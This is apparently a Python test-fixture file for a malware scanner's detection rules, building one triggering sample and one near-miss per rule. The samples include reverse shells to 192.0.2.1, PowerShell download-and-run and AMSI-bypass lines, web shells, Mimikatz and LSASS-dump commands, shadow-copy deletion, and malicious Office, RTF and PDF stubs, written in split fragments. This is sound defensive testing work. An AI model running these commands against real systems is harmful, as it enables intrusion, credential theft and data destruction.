"""For each rule of the starter set a file that it must find.

The texts are put together from pieces, so that no scanner takes this file itself for what it describes.
"""

import struct
from collections.abc import Callable

from assay_engine.eicar import eicar
from assay_pe.build import DATA, READ_ONLY, Resource, Section, build_pe


def text(*pieces: str) -> bytes:
    return "".join(pieces).encode()


def elf(kind: int, body: bytes, sections: int = 1) -> bytes:
    header = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", kind, 62, 1) + bytes(36)
    return (header + struct.pack("<HHH", 64, sections, 0))[:64].ljust(64, b"\0") + body


def lnk(arguments: str, appended: int = 0) -> bytes:
    flags = 0x20 | 0x80
    header = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", flags)
    header = header.ljust(0x4C, b"\0")
    encoded = arguments.encode("utf-16-le")
    return (
        header
        + struct.pack("<H", len(arguments))
        + encoded
        + struct.pack("<I", 0)
        + bytes(range(256)) * (appended // 256)
    )


def zip_entry(name: str) -> bytes:
    return b"PK\x03\x04" + bytes(22) + struct.pack("<HH", len(name.encode()), 0) + name.encode() + b"data"


def ole(*pieces: str, wide: str = "") -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + text(*pieces) + wide.encode("utf-16-le")


def noise(size: int) -> bytes:
    """Bytes of high entropy, the same every time."""
    value, out = 12345, bytearray()
    while len(out) < size:
        value = (value * 6364136223846793005 + 1442695040888963407) & (2**64 - 1)
        out.append(value >> 56)
    return bytes(out)


def upx(magic: bytes) -> bytes:
    return build_pe(
        sections=[
            Section(b"UPX0", b"", 0xE0000080, 0x4000),
            Section(b"UPX1", magic + noise(512), 0xE0000040),
        ],
        entry=0x5000,
    )


SAMPLES: dict[str, Callable[[], bytes]] = {
    "EICAR_Test_File": eicar,
    "EICAR_Embedded": lambda: b"x" * 300 + eicar(),
    "Packer_UPX": lambda: upx(b"UPX!"),
    "Packer_UPX_Disguised": lambda: upx(b"\0\0\0\0"),
    "Packer_Protector_Sections": lambda: build_pe(sections=[Section(b".vmp0", b"\xc3")]),
    "Packer_PyInstaller": lambda: build_pe(overlay=b"PyInstaller" + bytes.fromhex("4d45490c0b0a0b0e")),
    "PE_Section_Writable_And_Executable": lambda: build_pe(sections=[Section(b".text", b"\xc3", 0xE0000020)]),
    "PE_Code_Section_Encrypted": lambda: build_pe(sections=[Section(b".text", noise(8192))]),
    "PE_Injects_Into_Processes": lambda: build_pe(
        imports={"KERNEL32.dll": ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"]}
    ),
    "PE_Logs_Keys": lambda: build_pe(
        imports={"USER32.dll": ["GetForegroundWindow", "GetWindowTextW", "SetWindowsHookExW"]}
    ),
    "PE_Looks_For_Debuggers": lambda: build_pe(sections=[Section(b".data", text("VBoxService\0", "vmtoolsd\0"), DATA)]),
    "PE_Carries_Executable": lambda: build_pe(resources=[Resource(10, 1, 0, build_pe())]),
    "PE_Base64_Executable_In_Text": lambda: text("$x = '", "TVqQAAMA", "AAAEAAAA", "A" * 500, "'"),
    "PE_Deletes_Shadow_Copies": lambda: text("@echo off\r\nvssadmin delete ", "shadows /all /quiet\r\n"),
    "PowerShell_Download_And_Run": lambda: text(
        "IEX (New-Object Net.WebClient)", ".Download", "String('http://host.example/a.ps1')"
    ),
    "PowerShell_Encoded_Command": lambda: text("powershell.exe -nop -e", "nc ", "SQBFAFgA" * 12),
    "PowerShell_Hidden_Window": lambda: text("powershell -w hid", "den -ep by", "pass -f a.ps1"),
    "PowerShell_Disables_AMSI": lambda: text(
        "[Ref].Assembly.GetType('System.Management.Automation.",
        "AmsiUtils').GetField('amsi",
        "InitFailed','NonPublic,Static')",
    ),
    "PowerShell_Injects_Shellcode": lambda: text(
        "[Dll",
        'Import("kernel32.dll")] Virtual',
        "Alloc Create",
        "Thread [Runtime.InteropServices.Mar",
        "shal]::Copy($b,0,$a,9)",
    ),
    "PowerShell_Disables_Defender": lambda: text("Set-Mp", "Preference -DisableRealtime", "Monitoring $true"),
    "Webshell_PHP_Runs_Request": lambda: text("<?php @ev", "al($_PO", "ST['x']); ?>"),
    "Webshell_PHP_Packed": lambda: text("<?php ev", "al(gzinf", "late(base64_", "decode('", "A" * 40, "'))); ?>"),
    "Webshell_JSP_Runs_Request": lambda: text(
        "<% Process p = Runtime.getRun", "time().ex", "ec(request.getPara", 'meter("cmd")); p.getInput', "Stream(); %>"
    ),
    "Webshell_ASP_Runs_Request": lambda: text("<%ev", "al req", 'uest("x")%>'),
    "Shell_Reverse_Bash": lambda: text("#!/bin/bash\nbash -i >", "& /dev/t", "cp/192.0.2.1/4444 0>&1\n"),
    "Shell_Reverse_Script": lambda: text(
        "import socket,subprocess,os;s=socket.so",
        'cket();s.connect(("192.0.2.1",',
        "4444));os.du",
        "p2(s.fileno(),0);",
        "subprocess.ca",
        'll(["/bin/',
        'sh","-i"])',
    ),
    "Shell_Reverse_Netcat": lambda: text("nc 192.0.2.1 4444 ", "-e /bin/", "sh\n"),
    "Shell_Download_And_Run": lambda: text("*/5 * * * * cu", "rl -fsSL http://host.example/i.sh |", " sh\n"),
    "Miner_Configuration": lambda: text('{"url":"strat', 'um+tcp://pool.example:3333","donate-', 'level":1}'),
    "Miner_Program": lambda: elf(2, text("strat", "um+tcp://\0", "mining.sub", "scribe\0", "crypto", "night\0")),
    "Ransom_Note": lambda: text(
        "All of your fi", "les have been en", "crypted. Pay in Bit", "coin. Open the Tor ", "Browser.\n"
    ),
    "Office_DDE_Command": lambda: text(
        "{\\rtf1 {\\field DDE", "AUTO c:\\\\windows\\\\system32\\\\c", 'md.exe "/k calc"}}'
    ),
    "Office_Macro_Runs_Program": lambda: ole("Document_", "Open\0WScr", "ipt.Sh", "ell\0", wide="_VBA_PROJECT"),
    "Office_Excel4_Macro_Runs_Program": lambda: (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + bytes(504)
        + bytes.fromhex("85000e00000000000101")
        + text("Auto_", "Open\0", "url", "mon\0")
    ),
    "RTF_Equation_Exploit": lambda: text(
        "{\\rtf1{\\object\\obj", "data 0105", "02ce0200000000", "00c000000000000046}}"
    ),
    "RTF_Loads_Remote_Template": lambda: text("{\\rtf1{\\*\\temp", "late http://host.example/a.dotm}}"),
    "PDF_Launches_Program": lambda: text("%PDF-1.7\n1 0 obj<</S/Lau", "nch/Win<</F(c", "md.exe)/P(/c calc)>>>>endobj"),
    "PDF_Runs_Script": lambda: text(
        "%PDF-1.7\n1 0 obj<</OpenAc", "tion<</S/JavaSc", "ript/JS(ev", "al(unes", "cape('%41')))>>>>endobj"
    ),
    "OneNote_Carries_Script": lambda: (
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
        + bytes(64)
        + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
        + bytes(20)
        + text("<sc", "ript>")
    ),
    "HTML_Smuggles_File": lambda: text(
        "<html><script>var d=at",
        "ob('",
        "UEsDB",
        "A" * 220,
        "');var b=new Bl",
        "ob([d]);URL.createObj",
        "ectURL(b);</script>",
    ),
    "JavaScript_Windows_Dropper": lambda: text(
        "var h=new ActiveX",
        "Object('MSXML2.XML",
        "HTTP');var s=new ActiveX",
        "Object('ADODB.Str",
        "eam');s.SaveTo",
        "File('a.exe');",
        "new ActiveX",
        "Object('WScr",
        "ipt.Shell').Ru",
        "n('a.exe');",
    ),
    "JavaScript_Obfuscated": lambda: text("ev", "al(String.from", "CharCode(", "97," * 40, "97))"),
    "HTA_Runs_Program": lambda: text(
        "<hta:appli", "cation id=a><script language=vbs", 'cript>CreateObject("WScr', 'ipt.Shell")</script>'
    ),
    "Batch_Lives_Off_The_Land": lambda: text(
        "cert", "util -url", "cache -split -f http://host.example/a.exe a.exe\r\n"
    ),
    "LNK_Runs_Interpreter": lambda: lnk("power" + "shell.exe -w hidden http://host.example/"),
    "LNK_Larger_Than_A_Shortcut": lambda: lnk("plain", appended=8192),
    "ZIP_Double_Extension": lambda: zip_entry("invoice.pd" + "f.ex" + "e"),
    "Name_Turned_By_Bidi": lambda: zip_entry("invoice\u202efdp" + ".ex" + "e"),
    "Credentials_Mimikatz": lambda: text("privilege::", "debug\r\nsekurlsa::", "logonpasswords\r\n"),
    "Credentials_Dumps_LSASS": lambda: text(
        "rundll32 C:\\windows\\system32\\com", "svcs.dll, Mini", "Dump 624 C:\\a.d", "mp full\r\n"
    ),
    "Credentials_Saves_Registry_Hives": lambda: text("reg sa", "ve hk", "lm\\s", "am C:\\a.hiv\r\n"),
    "ELF_Library_Hides_Files": lambda: elf(
        3, text("/etc/ld.so.pre", "load\0dl", "sym\0read", "dir64\0/proc/net", "/tcp\0")
    ),
    "ELF_Mirai_Like": lambda: elf(2, text("xc3", "511\0viz", "xv\0/dev/misc/watch", "dog\0")),
    "ELF_Without_Sections": lambda: elf(2, b"\xc3", sections=0)[:58] + bytes(6) + b"\xc3",
    "SSH_Key_Planted": lambda: text("echo ssh-r", "sa AAAA", "B" * 60, " a@b >", "> ~/.ssh/authorized", "_keys\n"),
}

# Each is close to a rule and must not be found by it.
QUIET: dict[str, Callable[[], bytes]] = {
    "EICAR_Test_File": lambda: eicar()[:40],
    "Packer_UPX": build_pe,
    "Packer_UPX_Disguised": lambda: upx(b"UPX!"),
    "PE_Code_Section_Encrypted": lambda: build_pe(
        sections=[Section(b".text", b"\xc3" * 8192), Section(b".data", noise(8192), READ_ONLY)]
    ),
    "PE_Injects_Into_Processes": lambda: build_pe(imports={"KERNEL32.dll": ["VirtualAlloc", "CreateThread"]}),
    "PE_Carries_Executable": lambda: build_pe(resources=[Resource(10, 1, 0, b"MZ" + bytes(600))]),
    "PE_Deletes_Shadow_Copies": lambda: b"vssadmin list shadows",
    "PowerShell_Download_And_Run": lambda: b"Invoke-WebRequest https://host.example/a.zip -OutFile a.zip",
    "PowerShell_Encoded_Command": lambda: b"powershell -File build.ps1 -Environment production",
    "PowerShell_Hidden_Window": lambda: b"powershell -ExecutionPolicy Bypass -File build.ps1",
    "Webshell_PHP_Runs_Request": lambda: b"<?php echo htmlspecialchars($_GET['name']); ?>",
    "Webshell_ASP_Runs_Request": lambda: b'<% Response.Write(Server.HTMLEncode(Request("name"))) %>',
    "Webshell_JSP_Runs_Request": lambda: b'<% String name = request.getParameter("name"); %>',
    "Shell_Reverse_Script": lambda: b's = socket.socket(); s.connect(("192.0.2.1", 80)); s.sendall(b"GET /")',
    "Shell_Reverse_Bash": lambda: b"exec 3<>/dev/tcp/host.example/80; echo GET >&3",
    "Shell_Download_And_Run": lambda: b"0 3 * * * curl -fsS https://host.example/health > /dev/null",
    "Ransom_Note": lambda: b"Your files are encrypted at rest with AES-256 by our backup service.",
    "PDF_Runs_Script": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R/JavaScript 3 0 R>>endobj",
    "PDF_Launches_Program": lambda: b"%PDF-1.7\n1 0 obj<</S/URI/URI(http://host.example/a.exe)>>endobj",
    "Office_DDE_Command": lambda: b"DDEAUTO excel Sheet1 A1",
    "ZIP_Double_Extension": lambda: zip_entry("archive.tar.gz") + zip_entry("setup.exe"),
    "LNK_Runs_Interpreter": lambda: lnk("C:\\Program Files\\Editor\\editor.exe readme.txt"),
    "LNK_Larger_Than_A_Shortcut": lambda: lnk("plain"),
    "Credentials_Saves_Registry_Hives": lambda: b"reg save HKLM\\Software\\Mine backup.hiv",
    "ELF_Without_Sections": lambda: elf(2, b"\xc3"),
    "JavaScript_Obfuscated": lambda: b"var s = String.fromCharCode(97, 98, 99); eval('1+1');",
}
